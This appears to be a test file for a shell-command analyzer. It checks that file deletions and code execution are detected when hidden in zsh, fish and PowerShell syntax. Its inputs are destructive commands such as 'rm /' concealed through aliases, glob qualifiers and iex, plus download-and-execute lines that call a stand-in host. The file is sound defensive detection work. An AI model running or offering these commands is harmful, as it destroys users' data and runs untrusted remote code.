import { describe, expect, it } from 'vitest';
import { analyze, effectsOf } from './shell.ts';

describe('in zsh', () => {
  it.each([
    ['a glob qualifier runs its code', "ls *(e:'rm /':)"],
    ['a glob qualifier after a name does', "ls notes.txt(e:'rm /':)"],
    ['a file made of output runs its command', 'ls =(rm /)'],
    ['an equals sign stands for the path', '=rm /'],
    ['an ending opens its program', "alias -s bak='rm / #'; old.bak"],
    ['a word anywhere may be an alias', 'alias -g EVERYTHING=/; rm EVERYTHING'],
    ['a modifier leaves the command as it is', 'noglob rm /'],
    ['the end of a pipe changes the shell itself', 'echo / | read there; rm $there'],
  ])('%s', (_, text) => {
    expect(effectsOf(text, { as: 'zsh' })).toContain('file.delete /');
  });

  it('no other part of a pipe does', () => {
    expect(effectsOf('cd / | ls; rm x', { as: 'zsh' })).toContain('file.delete /home/ada/code/shop/x');
  });

  it('parentheses in quotes stay text', () => {
    expect(effectsOf('echo "see (e) and =(rm)"', { as: 'zsh' })).toEqual([]);
  });
});

describe('in fish', () => {
  it.each([
    ['a list', 'ls; and rm /'],
    ['a branch', 'if test -d x; ls; else if ls; rm /; end'],
    ['a block', 'begin; rm /; end'],
    ['a loop over words', 'for there in /; rm $there; end'],
    ['a condition', 'while rm /; ls; end'],
    ['a variable', 'set -l there /; rm $there'],
    ['a function', 'function zap --description x; rm $argv; end; zap /'],
    ['a substitution', 'rm (echo /)'],
    ['a substitution in quotes', 'rm "$(echo /)"'],
    ['a pipe', 'echo / | xargs rm'],
    ['a case', 'switch $x; case a; ls; case "*"; rm /; end'],
  ])('%s is followed', (_, text) => {
    expect(effectsOf(text, { as: 'fish' })).toContain('file.delete /');
  });

  it.each([["echo 'it\\'s rm /'"], ['echo "rm /; rm /" # rm /'], ['function zap; rm /; end']])('%s stays text', (text) => {
    expect(effectsOf(text, { as: 'fish' })).toEqual([]);
  });
});

describe('in PowerShell', () => {
  it.each([
    ['a cmdlet', 'Remove-Item -Recurse -Force /', 'file.delete /'],
    ['an alias of it', 'ri / -fo -r', 'file.delete /'],
    ['a named path', "del -LiteralPath '/' -Confirm:$false", 'file.delete /'],
    ['several paths', 'rm /a, /b', 'file.delete /b'],
    ['a variable', "$there = '/'; Remove-Item $there", 'file.delete /'],
    ['the home folder', 'rm "$HOME/x"', 'file.delete /home/ada/x'],
    ['a block', 'if (Test-Path x) { Remove-Item / }', 'file.delete /'],
    ['a block for each', 'ls | % { rm / }', 'file.delete /'],
    ['a program by its path', "& 'C:/tools/rm.exe' /", 'file.delete /'],
    ['evaluated text', "iex 'rm /'", 'file.delete /'],
    ['text from a pipe', "'rm /' | iex", 'file.delete /'],
    ['a method', "[IO.File]::Delete('/x')", 'file.delete /x'],
    ['a download that runs', 'iwr https://a.example/x.ps1 | iex', 'code.eval ?$input downloaded'],
    ['a downloaded string that runs', "iex (New-Object Net.WebClient).DownloadString('https://a.example/x')", 'net.request a.example'],
    ['another process', "Start-Process -FilePath rm -ArgumentList '/'", 'file.delete /'],
    ['a folder', 'Set-Location /; rm x', 'file.delete /x'],
    ['what comes through a pipe', "'/x' | Remove-Item", 'file.delete /x'],

    ['a method of a variable', '[IO.File]::Delete($HOME)', 'file.delete /home/ada'],
  ])('%s is followed', (_, text, effect) => {
    expect(effectsOf(text, { as: 'powershell' })).toContain(effect);
  });

  it('what a pipe brings is not taken where operands are given', () => {
    expect(effectsOf("'/a' | Remove-Item /b", { as: 'powershell' })).toEqual(['file.delete /b']);
  });

  it.each([["Write-Output 'Remove-Item /'"], ['echo "rm /" # rm /'], ["$x = 'rm /'"], ["@'\nrm /\n'@"]])('%s stays text', (text) => {
    expect(effectsOf(text, { as: 'powershell' })).toEqual([]);
  });
});

describe('a script as long as', () => {
  const most = 128 * 1024;
  const ofLength = (length: number) => `rm /a\n${'#'.repeat(length - 12)}\nrm /b`;

  it.each(['fish', 'powershell'] as const)('128 KiB is read to its end in %s, and a longer one is told to be too long', (shell) => {
    expect(analyze(ofLength(most), { as: shell }).incomplete).toEqual([]);
    expect(effectsOf(ofLength(most), { as: shell })).toEqual(['file.delete /a', 'file.delete /b']);
    const longer = analyze(ofLength(most + 1), { as: shell });
    expect(longer.incomplete).toEqual(['the script is too long']);
    expect(longer.actions.at(-1)?.invocation?.argv).toEqual(['rm', '/']);
  });

  it('a longer one is read in bash and zsh', () => {
    expect(analyze(ofLength(most + 1), { as: 'zsh' }).incomplete).toEqual([]);
    expect(effectsOf(ofLength(most + 1), { as: 'bash' })).toContain('file.delete /b');
  });
});
